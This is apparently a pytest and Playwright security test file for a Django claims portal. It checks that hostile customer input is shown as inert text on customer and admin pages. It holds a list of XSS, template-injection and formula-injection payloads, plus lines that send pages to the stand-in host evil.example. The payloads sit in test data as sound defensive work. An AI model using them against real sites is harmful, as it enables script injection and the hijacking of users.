"""Every text that a customer types is shown as text on every page, and no part of it runs.

`open_page` fails on any violation of the Content-Security-Policy, so a page that lets a script in
and is saved only by that policy fails, too.
"""

from __future__ import annotations

from collections.abc import Iterator
from urllib.parse import urlencode, urlsplit
from uuid import uuid4

import pytest
from django.contrib import admin
from django.core.files.base import ContentFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from playwright.sync_api import Dialog, Page

from accounts.models import User
from claims import storage
from claims.actions.customer import evidence
from claims.actions.review import conversation, notes
from claims.actions.uploads import inspection
from claims.inspection import FileProblem, InspectionReport
from claims.models import Claim, Event, Order, Upload
from tests.browser.pages import sign_in
from tests.makers import make_claim, make_lease, make_order, make_upload, make_user, newest_event

NAUGHTY = [
    "<script>window.pwned=1</script>",
    '"><img src=x onerror=window.pwned=1>',
    "'><svg/onload=window.pwned=1>",
    "</textarea><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "';window.pwned=1;//",
    "{{ 7|add:7 }}{% debug %}",
    "<!--><img src=x onerror=window.pwned=1>-->",
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    '<a href="javascript:window.pwned=1" autofocus>link</a>',
    "javascript:window.pwned=1",
    '<math><mtext></table><mglyph><style><img src=x onerror="window.pwned=1">',
    "<style>*{display:none}</style>",
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=//evil.example/">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<form action="//evil.example/"><button>Sign in</button></form>',
    "<img src=//evil.example/x.png>",
    "\u202ereversed\u202c \u2028line \u2029paragraph \ufeff",
    "=HYPERLINK(1) @SUM(1) +1 -1",
    "Ω≈ç√∫ 田中さん ١٢٣ 👩‍👩‍👧 Z͑ͫ̓ͪ̂ͫ̽",
]
ALL = "\n".join(NAUGHTY)
EMAIL = '"<img/src=x/onerror=window.pwned=1>"@example.com'
NAME = '"><script>window.pwned=1</script><img src=x onerror=window.pwned=1>'
FILE = '"><img src=x onerror=window.pwned=1><svg onload=window.pwned=1>.png'


@pytest.fixture
def eve(real_commits) -> User:
    """Return a customer whose every field is an attack."""
    return make_user(EMAIL, display_name=NAME)


@pytest.fixture
def order(eve: User) -> Order:
    return make_order(eve, service="telegram", sms=True)


@pytest.fixture
def claim(order: Order, eve: User, sue: User) -> Claim:
    """Return a claim with a hostile reason, files, an answer, a note and a refused file.

    Use it before `site`, whose worker would inspect the files itself.
    """
    uploads = [make_upload(order, name=FILE, content=number) for number in (b"one", b"two")]
    _accept(uploads[0])
    _refuse(uploads[1])
    claim = make_claim(order, kind="invalid_number", reason=ALL, proofs=("video",))
    evidence.add_evidence(
        claim_id=claim.pk, by=eve, uploads=[uploads[0].token], message=ALL, submission=uuid4(),
        now=timezone.now(),
    )  # fmt: skip
    make_lease(claim, sue)
    notes.add_note(claim_id=claim.pk, by=sue, body=ALL, now=timezone.now())
    conversation.reply(
        claim_id=claim.pk, by=sue, seen=newest_event(claim), note=ALL, now=timezone.now()
    )
    return claim


def _accept(upload: Upload) -> None:
    name = storage.store().save("aa/aa.webp", ContentFile(b"webp"))
    picture = inspection.Stored(
        role="picture", name=name, media_type="image/webp", width=4, height=4, size=4,
        sha256="0" * 64,
    )  # fmt: skip
    said = {"device": NAME, "software": ALL[:200], "edited_with": NAME}
    report = InspectionReport(ok=True, sha256=upload.sha256, size=upload.size, said=said)
    inspection.finish_inspection(
        upload_id=upload.pk, report=report, stored=[picture], now=timezone.now()
    )


def _refuse(upload: Upload) -> None:
    Upload.objects.filter(pk=upload.pk).update(
        state="refused",
        problem=FileProblem.DAMAGED,
        report={"format": NAME, "codec": ALL[:300], "malware_scan": ALL[:300]},
        inspected_at=timezone.now(),
    )


def pages_of_the_customer(claim: Claim) -> list[str]:
    return [
        reverse("portal:orders"),
        reverse("portal:claims"),
        reverse("portal:credit"),
        reverse("portal:policy"),
        reverse("portal:claim", args=[claim.code]),
        reverse("portal:add_evidence", args=[claim.code]),
        reverse("portal:file_claim", args=[claim.order.shop_id]),
        reverse("profile"),
        reverse("account_email"),
    ]


def pages_of_the_admin(claim: Claim) -> Iterator[str]:
    yield reverse("admin:index")
    yield reverse("admin:claims_claim_review", args=[claim.pk])
    yield from pages_of_the_desk(claim)
    for model in admin.site._registry:
        name = f"admin:{model._meta.app_label}_{model._meta.model_name}"
        yield reverse(f"{name}_changelist")
        newest = model._default_manager.order_by("-pk").first()
        if newest is not None:
            yield reverse(f"{name}_change", args=[newest.pk])
            yield reverse(f"{name}_history", args=[newest.pk])


def pages_of_the_desk(claim: Claim) -> Iterator[str]:
    queue = reverse("admin:claims_claim_changelist")
    for words in (*NAUGHTY[:6], EMAIL):
        yield f"{queue}?{urlencode({'q': words})}"
    yield f"{queue}?{urlencode({'tab': NAUGHTY[1], 'service': NAUGHTY[0], 'after': NAUGHTY[2]})}"
    yield f"{reverse('admin:claims_claim_bulk')}?claims={claim.pk}"
    yield f"{reverse('admin:claims_event_day')}?person={claim.order.customer_id}"
    yield reverse("admin:claims_event_story", args=[claim.pk])


def walk(page: Page, addresses: list[str]) -> dict[str, object]:
    """Return the failures on each page."""
    wrong: dict[str, object] = {}
    asked: set[str] = set()

    def dismiss(dialog: Dialog) -> None:
        wrong[page.url] = f"a dialog: {dialog.message}"
        dialog.dismiss()

    page.on("dialog", dismiss)
    page.on("request", lambda request: asked.add(urlsplit(request.url).hostname or "data"))
    for address in addresses:
        response = page.goto(address)
        if response is None or response.status >= 400:
            wrong[address] = response and response.status
        if page.evaluate("window.pwned") is not None or not page.locator("main, #main").count():
            wrong[address] = "it ran, or the page is broken"
    if asked - {"localhost", "data"}:
        wrong["elsewhere"] = asked
    return wrong


@pytest.fixture
def expected() -> list[str]:
    """Expect two errors: the stored file is not a picture, and the browser asks for an empty
    favicon.
    """
    return ["404"]


def test_nothing_runs_on_the_pages_of_the_customer(claim, site, open_page):
    page = open_page(width=1280)
    # Browsers don't accept such an address, so the form can't be filled in.
    client = Client()
    client.force_login(claim.order.customer)
    session = client.cookies["sessionid"].value
    page.context.add_cookies([{"name": "sessionid", "value": session, "url": site.url}])

    assert walk(page, pages_of_the_customer(claim)) == {}


def test_nothing_runs_on_any_page_of_the_admin(claim, open_page):
    make_user("root@example.com", is_staff=True, is_superuser=True)
    page = open_page(width=1280)
    sign_in(page, "root@example.com")

    assert walk(page, list(pages_of_the_admin(claim))) == {}


def test_the_reviewer_reads_every_word_as_it_was_typed(claim, open_page):
    page = open_page(width=1280)
    sign_in(page, "sue@example.com")
    page.goto(reverse("admin:claims_claim_review", args=[claim.pk]))

    text = page.locator("main, #main").first.inner_text()

    for words in NAUGHTY[:19]:
        assert words in text
    assert Event.objects.filter(claim=claim, kind="noted").exists()
